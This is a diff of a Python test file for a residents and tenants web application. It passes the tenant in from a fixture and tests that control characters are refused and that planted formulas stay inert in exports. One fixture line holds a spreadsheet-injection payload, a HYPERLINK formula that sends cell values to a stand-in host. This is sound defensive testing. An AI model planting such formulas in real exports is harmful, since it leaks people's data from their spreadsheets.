@@ -24,14 +24,13 @@ REPORT = (
 FORMULA = '=HYPERLINK("http://x.example/?"&B2&C2,"详情")'
 
 
-async def residents_named(name: str) -> int:
-    tenant = await Tenant.get(slug="jinshui")
+async def residents_named(tenant: Tenant, name: str) -> int:
     async with tenant_transaction(tenant.id):
         return await Resident.filter(tenant_id=tenant.id, name__contains=name).count()
 
 
 async def test_names_with_invisible_or_control_characters_are_refused_and_nothing_is_written(
-    live_server, tokens, grid, db
+    live_server, tokens, grid, db, street
 ):
     marker = unique_name("坏")
     cases = {
@@ -50,7 +49,7 @@ async def test_names_with_invisible_or_control_characters_are_refused_and_nothin
         assert payload["resident"] is None and [(e["field"], e["code"]) for e in payload["errors"]] == [
             ("name", code)
         ], name
-    assert await residents_named(marker) == 0
+    assert await residents_named(street.tenant, marker) == 0
 
 
 async def test_a_megabyte_description_and_control_characters_in_a_case_are_refused(live_server, tokens, grid, db):
@@ -72,11 +71,11 @@ async def test_a_megabyte_description_and_control_characters_in_a_case_are_refus
 
 
 async def test_a_planted_formula_or_control_character_leaves_the_export_as_text_and_imports_back(
-    live_server, tokens, grid, db
+    live_server, tokens, grid, db, street
 ):
+    tenant = street.tenant
     formula = await create_resident(live_server, tokens["grid-head"], grid[B03]["id"])
     broken = await create_resident(live_server, tokens["grid-head"], grid[B03]["id"], phone="13800000009")
-    tenant = await Tenant.get(slug="jinshui")
     async with tenant_transaction(tenant.id):  # as a row written before the text rule (PostgreSQL holds no NUL)
         await Resident.filter(tenant_id=tenant.id, name=formula["name"]).update(name=FORMULA)
         await Resident.filter(tenant_id=tenant.id, name=broken["name"]).update(name=broken["name"] + "\x07\x1b")
